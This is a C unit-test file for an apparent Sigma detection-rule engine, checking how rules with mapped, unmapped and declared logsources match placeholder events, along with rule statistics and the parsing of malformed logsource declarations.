typedef struct ls_row {
    const char *name;
    const char *logsource; /* the rule's logsource map */
    const char *declared;  /* vg_logsource_parse spec or NULL */
    const char *event;
    int want;
} ls_row;

static void test_logsources(void **state)
{
    (void)state;
    static const ls_row rows[] = {
            {"mapped, when holds", "{product: windows, category: process_creation}", NULL,
             "{'EventID':1,'Image':'x'}", 1},
            {"mapped, when fails", "{product: windows, category: process_creation}", NULL,
             "{'EventID':2,'Image':'x'}", 0},
            {"mapped, when field absent", "{product: windows, category: process_creation}", NULL,
             "{'Image':'x'}", 0},
            {"mapped product only", "{product: windows}", NULL, "{'Channel':'a','Image':'x'}", 1},
            {"mapped product only, when fails", "{product: windows}", NULL, "{'Image':'x'}", 0},
            {"unmapped applies to all", "{product: test}", NULL, "{'Image':'x'}", 1},
            {"unmapped, more keys than a mapping", "{product: windows, service: sysmon}", NULL,
             "{'Image':'x'}", 1},
            {"declared covers the rule", "{product: windows, category: process_creation}",
             "product=windows,category=process_creation", "{'Image':'x'}", 1},
            {"declared covers product-only rule", "{product: windows}",
             "product=windows,category=process_creation", "{'Image':'x'}", 1},
            {"declared conflicts", "{product: windows, category: process_creation}",
             "product=linux", "{'EventID':1,'Image':'x'}", 0},
            {"declared conflicts on category", "{product: windows, category: process_creation}",
             "product=windows,category=file_event", "{'EventID':1,'Image':'x'}", 0},
            {"declared conflicts with unmapped", "{product: test}", "product=windows",
             "{'Image':'x'}", 0},
            {"rule more specific: when decides", "{product: windows, category: process_creation}",
             "product=windows", "{'EventID':1,'Image':'x'}", 1},
            {"rule more specific: when fails", "{product: windows, category: process_creation}",
             "product=windows", "{'EventID':2,'Image':'x'}", 0},
            {"no logsource keys, declared", "{}", "product=windows", "{'Image':'x'}", 1},
            {"detection still decides", "{product: windows, category: process_creation}",
             "product=windows,category=process_creation", "{'Image':'y'}", 0},
    };
    int failed = 0;
    char text[1024];
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        const ls_row *r = &rows[i];
        env e;
        env_init(&e);
        assert_int_equal(vg_ruleset_add_logsources(e.rs, "ls.yml", ls_map, strlen(ls_map), e.d),
                         VG_OK);
        snprintf(text, sizeof(text),
                 "title: t\nid: r1\nlogsource: %s\n"
                 "detection:\n    sel:\n        Image: x\n    condition: sel\n",
                 r->logsource);
        env_load(&e, text);
        assert_int_equal(vg_ruleset_count(e.rs), 1);
        vg_logsource decl, *dp = NULL;
        if (r->declared) {
            char err[128];
            assert_int_equal(vg_logsource_parse(e.rs, r->declared, &decl, err, sizeof(err)), VG_OK);
            dp = &decl;
        }
        uint32_t hits[MAX_HITS];
        long n = env_match(&e, r->event, dp, hits, MAX_HITS);
        if (n != r->want) {
            print_error("row '%s': got %ld hits, want %d\n", r->name, n, r->want);
            print_diags(e.d);
            failed++;
        }
        env_free(&e);
    }
    if (failed)
        fail_msg("%d rows failed", failed);
}

/* Mapped / unmapped bookkeeping: rule info, stats and the unmapped-logsource warning. */
static void test_logsource_info(void **state)
{
    (void)state;
    static const char rules[] =
            "title: Mapped\nid: m1\nlogsource: {product: windows, category: process_creation}\n"
            "detection: {sel: {Image: x}, condition: sel}\n"
            "---\n"
            "title: Unmapped\nid: u1\nlogsource: {product: test}\n"
            "detection: {sel: {Image: x}, condition: sel}\n";
    env e;
    env_init(&e);
    assert_int_equal(vg_ruleset_add_logsources(e.rs, "ls.yml", ls_map, strlen(ls_map), e.d), VG_OK);
    env_load(&e, rules);
    assert_int_equal(vg_diags_errors(e.d), 0);
    vg_rule_info info;
    vg_ruleset_rule_info(e.rs, 0, &info);
    assert_true(info.logsource_mapped);
    assert_string_equal(info.logsource.product, "windows");
    assert_string_equal(info.logsource.category, "process_creation");
    assert_null(info.logsource.service);
    vg_ruleset_rule_info(e.rs, 1, &info);
    assert_false(info.logsource_mapped);
    vg_ruleset_stats st;
    vg_ruleset_stats_get(e.rs, &st);
    assert_int_equal(st.n_unmapped, 1);
    assert_int_equal(st.n_logsource_entries, 2);
    size_t unmapped = 0;
    for (size_t i = 0; i < vg_diags_count(e.d); i++) {
        const vg_diag *g = vg_diags_get(e.d, i);
        if (strcmp(g->reason, "unmapped-logsource") == 0) {
            unmapped++;
            assert_int_equal(g->sev, VG_SEV_WARNING);
            assert_string_equal(g->rule_id, "u1");
            assert_non_null(strstr(g->msg, "product=test"));
        }
    }
    assert_int_equal(unmapped, 1);

    /* both apply to an event that satisfies the mapping's condition */
    uint32_t hits[MAX_HITS];
    assert_int_equal(env_match(&e, "{'EventID':1,'Image':'x'}", NULL, hits, MAX_HITS), 2);
    assert_int_equal(env_match(&e, "{'EventID':4,'Image':'x'}", NULL, hits, MAX_HITS), 1);
    assert_int_equal(hits[0], 1);

    /* malformed declarations */
    static const char *const bad[] = {
            "", "product", "product=", "=windows", "os=windows", "product=windows,,"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        vg_logsource decl;
        char err[128] = "";
        if (vg_logsource_parse(e.rs, bad[i], &decl, err, sizeof(err)) != VG_ERR_INVALID)
            fail_msg("declaration \"%s\" accepted", bad[i]);
        assert_true(err[0] != '\0');
    }
    env_free(&e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_contains_startswith_endswith),
            cmocka_unit_test(test_re),
            cmocka_unit_test(test_cidr),
            cmocka_unit_test(test_base64),
            cmocka_unit_test(test_windash),
            cmocka_unit_test(test_exists_cased),
            cmocka_unit_test(test_compare),
            cmocka_unit_test(test_fieldref),
            cmocka_unit_test(test_expand),
            cmocka_unit_test(test_expand_undefined),
            cmocka_unit_test(test_time),
            cmocka_unit_test(test_wildcards),
            cmocka_unit_test(test_scalars),
            cmocka_unit_test(test_fields),
            cmocka_unit_test(test_fieldmap),
            cmocka_unit_test(test_keywords),
            cmocka_unit_test(test_conditions),
            cmocka_unit_test(test_filters),
            cmocka_unit_test(test_every_rule_fires),
            cmocka_unit_test(test_logsources),
            cmocka_unit_test(test_logsource_info),
    };
    return cmocka_run_group_tests_name("sigma_rule_eval", tests, NULL, NULL);
}
